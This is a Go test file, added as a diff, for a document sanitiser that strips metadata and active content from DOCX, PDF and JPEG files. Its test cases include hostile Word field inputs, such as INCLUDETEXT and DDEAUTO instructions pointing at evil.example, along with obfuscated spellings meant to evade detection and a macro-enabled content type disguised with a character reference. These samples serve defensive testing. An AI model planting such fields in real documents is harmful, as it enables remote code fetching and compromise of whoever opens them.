@@ -1,0 +1,225 @@
+package media
+
+import (
+	"bytes"
+	"errors"
+	"image/jpeg"
+	"maps"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/pdfcpu/pdfcpu/pkg/api"
+	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
+	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
+
+	"github.com/storydesk/storydesk/internal/testenv"
+)
+
+func cleanDOCX(t *testing.T, in []byte) ([]byte, error) {
+	t.Helper()
+	var out bytes.Buffer
+	err := CleanDOCX(&out, bytes.NewReader(in), int64(len(in)), DefaultMaxPixels)
+	return out.Bytes(), err
+}
+
+func TestCleanDOCXRemovesTracesAndActiveContent(t *testing.T) {
+	in := testenv.DOCXWithTraces(t)
+	// The fixture holds every trace, or the test proves nothing.
+	if n := len(testenv.DOCXLeaks(t, in)); n < len(testenv.DOCXTraces()) {
+		t.Fatalf("the fixture holds %d traces, fewer than the %d listed", n, len(testenv.DOCXTraces()))
+	}
+	out, err := cleanDOCX(t, in)
+	if err != nil {
+		t.Fatalf("CleanDOCX: %v", err)
+	}
+	for _, leak := range testenv.DOCXLeaks(t, out) {
+		t.Errorf("survived cleaning: %s", leak)
+	}
+	parts := testenv.DOCXParts(t, out)
+	for _, gone := range []string{"docProps/core.xml", "docProps/app.xml", "docProps/custom.xml", "word/people.xml", "word/_rels/settings.xml.rels"} {
+		if parts[gone] != nil && gone != "word/_rels/settings.xml.rels" {
+			t.Errorf("%s is still in the document", gone)
+		}
+	}
+	if rels := string(parts["word/_rels/settings.xml.rels"]); strings.Contains(rels, "attachedTemplate") {
+		t.Errorf("the template relationship is still there: %s", rels)
+	}
+	types := string(parts["[Content_Types].xml"])
+	if strings.Contains(types, "docProps") || strings.Contains(types, "people") {
+		t.Errorf("content types still declare dropped parts: %s", types)
+	}
+	doc := string(parts["word/document.xml"])
+	for _, keep := range []string{"Mi historia", "shown text", "picture", "a source", "added later", `r:id="rId6"`, `r:embed="rId4"`} {
+		if !strings.Contains(doc, keep) {
+			t.Errorf("document.xml lost %q:\n%s", keep, doc)
+		}
+	}
+	if strings.Contains(doc, "rId5") || strings.Contains(doc, "fldChar") || strings.Contains(doc, "fldSimple") {
+		t.Errorf("document.xml still refers to the external image or holds a field:\n%s", doc)
+	}
+	if !strings.Contains(string(parts["word/_rels/document.xml.rels"]), "https://example.org/source") {
+		t.Error("the web link was removed")
+	}
+	photo := parts["word/media/image1.jpeg"]
+	if _, err := jpeg.Decode(bytes.NewReader(photo)); err != nil || testenvHasEXIF(photo) {
+		t.Errorf("photo: decode error %v, EXIF left %v", err, testenvHasEXIF(photo))
+	}
+	// Cleaning again changes nothing: the output is already clean.
+	again, err := cleanDOCX(t, out)
+	if err != nil || !bytes.Equal(again, out) {
+		t.Errorf("cleaning the output again: %v, same bytes %v", err, bytes.Equal(again, out))
+	}
+}
+
+func testenvHasEXIF(b []byte) bool { return testenv.HasEXIF(b) }
+
+// TestCleanDOCXNeutralisesEveryFieldSpelling covers the spellings of a field
+// that runs things: split over runs, built from a nested field, under a
+// namespace prefix other than w:, and never ended.
+func TestCleanDOCXNeutralisesEveryFieldSpelling(t *testing.T) {
+	const w = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+	run := func(s string) string { return "<w:r>" + s + "</w:r>" }
+	begin, sep, end := run(`<w:fldChar w:fldCharType="begin"/>`), run(`<w:fldChar w:fldCharType="separate"/>`), run(`<w:fldChar w:fldCharType="end"/>`)
+	instr := func(s string) string { return run(`<w:instrText>` + s + `</w:instrText>`) }
+	tests := []struct{ name, body, gone, kept string }{
+		{"INCLUDETEXT", begin + instr(`INCLUDETEXT "http://evil.example/x.docx"`) + sep + run(`<w:t>kept</w:t>`) + end, "evil.example", "kept"},
+		{"nested QUOTE builds DDEAUTO", begin + begin + instr(`QUOTE 68 68 69 65 85 84 79`) + sep + run(`<w:t>DDEAUTO</w:t>`) + end +
+			instr(` evil.example `) + sep + run(`<w:t>kept</w:t>`) + end, "DDEAUTO", "kept"},
+		{"other prefix", `<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldChar x:fldCharType="begin"/></x:r>` +
+			`<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:instrText>DDEAUTO evil.example</x:instrText></x:r>` +
+			sep + run(`<w:t>kept</w:t>`) + end, "evil.example", "kept"},
+		{"never ended", run(`<w:t>kept</w:t>`) + begin + instr(`DDEAUTO evil.example`), "evil.example", "kept"},
+		{"entity-encoded instruction", `<w:fldSimple w:instr="&#68;DEAUTO evil.example"><w:r><w:t>kept</w:t></w:r></w:fldSimple>`, "evil.example", "kept"},
+		{"inert PAGE stays", begin + instr(` PAGE `) + sep + run(`<w:t>kept</w:t>`) + end, "", "PAGE"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			parts := docxParts(docxMainType)
+			parts[2].body = []byte(`<w:document ` + w + `><w:body><w:p>` + tt.body + `</w:p></w:body></w:document>`)
+			out, err := cleanDOCX(t, buildZip(t, parts...))
+			if err != nil {
+				t.Fatal(err)
+			}
+			doc := string(testenv.DOCXParts(t, out)["word/document.xml"])
+			if tt.gone != "" && strings.Contains(doc, tt.gone) || !strings.Contains(doc, tt.kept) {
+				t.Errorf("want %q gone and %q kept:\n%s", tt.gone, tt.kept, doc)
+			}
+		})
+	}
+}
+
+func TestCleanDOCXRefuses(t *testing.T) {
+	withRel := func(typ, target string) []byte {
+		parts := docxParts(docxMainType)
+		parts = append(parts, zipEntry{"word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+			`<Relationship Id="rId9" Type="` + typ + `" Target="` + target + `"/></Relationships>`)},
+			zipEntry{"word/embeddings/x.bin", []byte("MZ")})
+		return buildZip(t, parts...)
+	}
+	tiff := docxParts(docxMainType)
+	tiff = append(tiff, zipEntry{"word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+		`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/a.tif"/></Relationships>`)},
+		zipEntry{"word/media/a.tif", []byte("II*\x00 GPS here")})
+	tests := []struct {
+		name   string
+		in     []byte
+		reason string
+	}{
+		{"macro-enabled behind a character reference", buildZip(t, docxParts("application/vnd.ms-word.document.macro&#69;nabled.main+xml")...), "macros"},
+		{"OLE object", withRel("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "embeddings/x.bin"), "embedded objects"},
+		{"ActiveX control", withRel("http://schemas.openxmlformats.org/officeDocument/2006/relationships/control", "embeddings/x.bin"), "ActiveX"},
+		{"VBA project by relationship", withRel("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "embeddings/x.bin"), "macros"},
+		{"TIFF picture", buildZip(t, tiff...), "TIFF"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := cleanDOCX(t, tt.in)
+			reason, ok := Reason(err)
+			if !errors.Is(err, ErrUnsupported) || !ok || !strings.Contains(reason, tt.reason) {
+				t.Fatalf("CleanDOCX = %v; want a refusal mentioning %q", err, tt.reason)
+			}
+		})
+	}
+}
+
+func TestCleanPDFRemovesTracesAndActions(t *testing.T) {
+	in := testenv.PDFWithTraces(t)
+	if n := len(testenv.PDFLeaks(t, in)); n < len(testenv.PDFTraces()) {
+		t.Fatalf("the fixture holds %d traces, fewer than the %d listed", n, len(testenv.PDFTraces()))
+	}
+	var out bytes.Buffer
+	if err := CleanPDF(&out, bytes.NewReader(in)); err != nil {
+		t.Fatalf("CleanPDF: %v", err)
+	}
+	for _, leak := range testenv.PDFLeaks(t, out.Bytes()) { // also validates the output
+		t.Errorf("survived cleaning: %s", leak)
+	}
+	all := bytes.Join(slices.Collect(maps.Values(testenv.PDFTexts(t, out.Bytes()))), nil)
+	for _, keep := range []string{"https://example.org/source", "check this", "DCTDecode"} {
+		if !bytes.Contains(all, []byte(keep)) {
+			t.Errorf("the output lost %q", keep)
+		}
+	}
+	// The photo is still a JPEG that decodes.
+	ctx, _ := api.ReadContext(bytes.NewReader(out.Bytes()), pdfConfig())
+	images := 0
+	for _, e := range ctx.Table {
+		if sd, ok := e.Object.(types.StreamDict); ok && sd.Subtype() != nil && *sd.Subtype() == "Image" {
+			images++
+			if _, err := jpeg.Decode(bytes.NewReader(sd.Raw)); err != nil {
+				t.Errorf("the photo no longer decodes: %v", err)
+			}
+		}
+	}
+	if images != 1 {
+		t.Errorf("%d pictures in the output, want 1", images)
+	}
+}
+
+func TestCleanPDFRefuses(t *testing.T) {
+	encrypt := func(user string) []byte {
+		pdfConfig() // keeps pdfcpu's configuration off the disk
+		var out bytes.Buffer
+		if err := api.Encrypt(bytes.NewReader(testenv.MinimalPDF()), &out, model.NewAESConfiguration(user, "owner", 256)); err != nil {
+			t.Fatal(err)
+		}
+		return out.Bytes()
+	}
+	tests := []struct {
+		name   string
+		in     []byte
+		reason string
+	}{
+		{"not really a PDF", []byte("%PDF-1.4\n%%EOF\n"), "damaged"},
+		{"opens only with a password", encrypt("user"), "damaged"},
+		{"encrypted with an owner password only", encrypt(""), "encrypted"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var out bytes.Buffer
+			err := CleanPDF(&out, bytes.NewReader(tt.in))
+			reason, ok := Reason(err)
+			if !errors.Is(err, ErrUnsupported) || !ok || !strings.Contains(reason, tt.reason) {
+				t.Fatalf("CleanPDF = %v; want a refusal mentioning %q", err, tt.reason)
+			}
+		})
+	}
+}
+
+func TestStripJPEGMetadata(t *testing.T) {
+	in := jpegWithMetadata(t, 40, 20)
+	out, ok := stripJPEGMetadata(in)
+	if !ok {
+		t.Fatal("stripJPEGMetadata refused a camera JPEG")
+	}
+	if leaks := checkNoLeak(out); len(leaks) > 0 {
+		t.Errorf("left: %v", leaks)
+	}
+	if _, err := jpeg.Decode(bytes.NewReader(out)); err != nil {
+		t.Errorf("no longer decodes: %v", err)
+	}
+	if _, ok := stripJPEGMetadata([]byte("\xff\xd8\xff\xe1\x00")); ok {
+		t.Error("a truncated JPEG was accepted")
+	}
+}
